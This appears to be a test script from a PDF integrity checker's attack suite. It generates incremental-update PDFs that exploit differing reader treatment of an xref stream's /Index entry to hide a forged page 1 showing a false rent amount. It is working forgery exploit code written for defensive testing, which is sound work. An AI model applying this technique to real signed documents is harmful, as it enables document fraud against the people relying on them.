// a23: PDFium reads an xref stream's /Index pair only when its count is above 0, and an /Index with no such pair as
// [0 /Size] (CPDF_Parser's GetCrossRefStreamIndices). sealcheck (as poppler, pdf.js and qpdf) reads an /Index [] or
// /Index [N 0] as no rows, and extra data after the rows /Index names is ignored (xref.ts: "every reader ... ignores
// the rest"). Two updates:
//   1. honest: an object stream A (listed, top-level) whose header names page 1's number -> a forged page 1 (/Contents
//      B, a new stream drawing "Husleje: 1 kr."), B, and an xref stream C1 listing A, B, C1. Nothing lists page 1 anew.
//   2. an xref stream C2 with /Index [] (or [C2 0]) whose data are rows for objects 0 .. /Size-1: the merged table, but
//      page 1 as entry 0 of object stream A. Every `N G obj` header in the file is listed (the scan finds nothing).
// modes: honest (update 2's data empty), empty (/Index []), zero (/Index [C2 0]), none (no /Index: the control where
//        every reader reads the rows: page 1 listed anew, what sealcheck must see)
//   npx tsx scripts/attack-s18/index-empty.ts <honest|empty|zero|none>   REAL=0 for samples/valid
import { deflateSync } from "node:zlib";
import { NumberAllocator, serialize } from "../../src/augment/writer.js";
import { parsePdf, walkPages } from "../../src/input/pdf/index.js";
import { rawGet } from "../../src/input/pdf/objects.js";
import { wholeSource } from "../../src/input/source.js";
import { resolveLimits } from "../../src/limits.js";
import { save, tool, work } from "../attack36/lib.js";
import { judge, latin, page1 } from "../attack-s16/lib.js";

const mode = process.argv[2] ?? "empty";
if (!["honest", "empty", "zero", "none"].includes(mode)) throw new Error("usage: <honest|empty|zero|none>");
const p = page1();
const pdf = p.pdf;
const doc = parsePdf(wholeSource(pdf), resolveLimits());
const view = doc.latest();
const page = walkPages(view)[0]!;
const P = page.ref!.num;
const alloc = new NumberAllocator(doc);
const [A, B, C1, C2] = [alloc.take(), alloc.take(), alloc.take(), alloc.take()];
const content = latin("1 g 0 0 2000 2000 re f 0 g BT /F9 28 Tf 60 700 Td (Husleje: 1 kr. pr. maaned) Tj ET\n");
const forgedPage = `<< ${p.kept.join(" ")} /Contents ${B} 0 R /Resources << /Font << /F9 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> >>`;
const parts: number[][] = [[...pdf]];
let at = pdf.length;
const push = (b: number[]) => {
  parts.push(b);
  at += b.length;
};
if (pdf.at(-1) !== 0x0a) push([0x0a]);
const carried = ["Root", "Info", "ID"].flatMap((k) => {
  const v = rawGet(view.trailer, k);
  return v ? [`/${k} ${serialize(v)}`] : [];
});
const row = (type: number, f2: number, f3: number) => [type, (f2 >>> 24) & 0xff, (f2 >>> 16) & 0xff, (f2 >>> 8) & 0xff, f2 & 0xff, (f3 >> 8) & 0xff, f3 & 0xff];

// update 1
const head = `${P} 0 `;
const osData = [...deflateSync(Uint8Array.from(latin(`${head}${forgedPage}\n`)))];
const offA = at;
push([
  ...latin(`${A} 0 obj\n<< /Type /ObjStm /N 1 /First ${head.length} /Filter /FlateDecode /Length ${osData.length} >>\nstream\n`),
  ...osData,
  ...latin("\nendstream\nendobj\n"),
]);
const offB = at;
push([...latin(`${B} 0 obj\n<< /Length ${content.length} >>\nstream\n`), ...content, ...latin("\nendstream\nendobj\n")]);
const offC1 = at;
const rows1 = [row(1, offA, 0), row(1, offB, 0), row(1, offC1, 0)].flat();
push([
  ...latin(
    `${C1} 0 obj\n<< /Type /XRef /Size ${C1 + 1} /W [1 4 2] /Index [${A} 3] /Prev ${doc.revisions.at(-1)!.startxref} ${carried.join(" ")} /Length ${rows1.length} >>\nstream\n`,
  ),
  ...rows1,
  ...latin(`\nendstream\nendobj\nstartxref\n${offC1}\n%%EOF\n`),
]);

// update 2: rows for 0 .. Size-1 as the merged table, page 1 compressed in A
const merged = new Map<number, number[]>();
for (const rev of doc.revisions)
  for (const e of rev.entries)
    merged.set(e.num, e.type === "free" ? row(0, e.nextFree, e.gen) : e.type === "offset" ? row(1, e.offset, e.gen) : row(2, e.stream, e.index));
merged.set(A, row(1, offA, 0));
merged.set(B, row(1, offB, 0));
merged.set(C1, row(1, offC1, 0));
const offC2 = at;
merged.set(C2, row(1, offC2, 0));
merged.set(P, row(2, A, 0));
const size = C2 + 1;
const rows2: number[] = [];
for (let n = 0; n < size; n++) rows2.push(...(merged.get(n) ?? (n === 0 ? row(0, 0, 65535) : row(0, 0, 0))));
const data = mode === "honest" ? [] : rows2;
const index = mode === "empty" || mode === "honest" ? " /Index []" : mode === "zero" ? ` /Index [${C2} 0]` : "";
push([
  ...latin(`${C2} 0 obj\n<< /Type /XRef /Size ${size} /W [1 4 2]${index} /Prev ${offC1} ${carried.join(" ")} /Length ${data.length} >>\nstream\n`),
  ...data,
  ...latin(`\nendstream\nendobj\nstartxref\n${offC2}\n%%EOF\n`),
]);
const file = save(work(`s18-index-${mode}`), "archive.pdf", Uint8Array.from(parts.flat()));
judge(`index-empty ${mode}`, file);
console.log(`== qpdf page ${P}: ${JSON.stringify(tool("qpdf", ["--show-object=" + P, file]).slice(0, 160))}`);
console.log(`== pdftotext p1: ${JSON.stringify(tool("pdftotext", ["-l", "1", file, "-"]).slice(0, 80))}`);
